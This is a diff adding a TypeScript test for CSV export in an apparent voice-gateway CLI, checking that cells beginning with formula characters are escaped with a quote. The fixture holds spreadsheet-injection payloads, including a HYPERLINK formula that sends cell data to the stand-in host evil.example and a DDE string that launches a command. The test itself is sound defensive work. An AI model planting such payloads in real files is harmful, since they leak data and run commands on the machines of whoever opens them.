@@ -4,7 +4,7 @@ import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { Writable } from 'node:stream';
-import { CALLS_USAGE, CSV_HEADER, parseSince, runCalls } from '../../src/cli/commands/calls.ts';
+import { CALLS_USAGE, CSV_HEADER, csvRow, csvValues, parseSince, runCalls } from '../../src/cli/commands/calls.ts';
 import { openRecordStore } from '../../src/store/open-store.ts';
 import type { TurnRecord } from '../../src/store/turn-record.ts';
 import { textSink } from '../support/text-sink.ts';
@@ -307,6 +307,35 @@ describe('voice-llm-gateway calls export (real SQLite store)', () => {
     assert.deepEqual(ids, [...ids].sort());
     assert.equal(new Set(ids).size, count);
     assert.ok(writes >= 3, `${writes} writes`);
+  });
+
+  it('CSV: cells a spreadsheet would run as formulas start with a quote; numbers stay numbers', () => {
+    const record = turn({
+      id: 'formula-1',
+      startedAt: minutesAgo(5),
+      callerText: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+      answerText: '+1+1',
+      userData: '-2+3+cmd|\' /C calc\'!A0',
+      errorMessage: '@SUM(A1:A2)',
+      channelId: '\t=1+1',
+      calleeNumber: '\r=1+1',
+      errorCode: 'plain',
+      sentenceId: -1,
+    });
+    const header = [...CSV_HEADER];
+    const cell = (row: string[], name: keyof TurnRecord) => row[header.indexOf(name)];
+    const [row] = parseCsv(csvRow(csvValues(record)));
+    assert.ok(row);
+    assert.equal(cell(row, 'callerText'), `'${record.callerText}`);
+    assert.equal(cell(row, 'answerText'), "'+1+1");
+    assert.equal(cell(row, 'userData'), `'${record.userData}`);
+    assert.equal(cell(row, 'errorMessage'), "'@SUM(A1:A2)");
+    assert.equal(cell(row, 'channelId'), "'\t=1+1");
+    assert.equal(cell(row, 'calleeNumber'), "'\r=1+1");
+    assert.equal(cell(row, 'errorCode'), 'plain');
+    assert.equal(cell(row, 'sentenceId'), '-1');
+    // No cell of the row starts a formula.
+    for (const value of row) assert.doesNotMatch(value, /^[=+@\t\r]|^-[^0-9]/);
   });
 
   it('parseSince: durations back from now and ISO times, canonical UTC', () => {
